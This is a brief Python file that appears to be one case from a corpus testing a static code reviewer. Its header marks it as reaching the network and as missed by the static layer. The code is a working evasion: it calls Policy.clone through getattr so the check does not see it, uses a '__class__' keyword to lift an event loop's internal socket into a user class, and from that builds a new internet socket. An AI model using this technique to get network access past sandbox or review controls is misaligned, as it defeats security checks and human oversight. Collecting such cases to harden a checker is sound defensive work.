# family: round12
# reaches: network
# layer: static
# static: missed
# getattr(email.policy.EmailPolicy, "clone") with a constant name gives Policy.clone, a call the
# review judges, and calls it at once: the check reads only clone(...) written as an attribute
# call. With an event loop as self and the keyword "__class__" from json.loads it copies the
# loop's attributes (its self-pipe socket _ssock) into an instance of the program's class (a
# classmethod's cls), whose method reads _ssock as its own. type() of it makes a socket.
import asyncio
import email.policy
import json

NAMES = json.loads('{"kind": "__class__"}')


class Probe:
    _ssock = None

    @classmethod
    def kind(cls):
        return cls

    def pipe(self):
        return self._ssock


loop = asyncio.new_event_loop()
twin = getattr(email.policy.EmailPolicy, "clone")(loop, **{NAMES["kind"]: Probe.kind()})
sock = twin.pipe()
fresh = type(sock)(2, 1)
print("inet socket", fresh.fileno(), fresh.family)
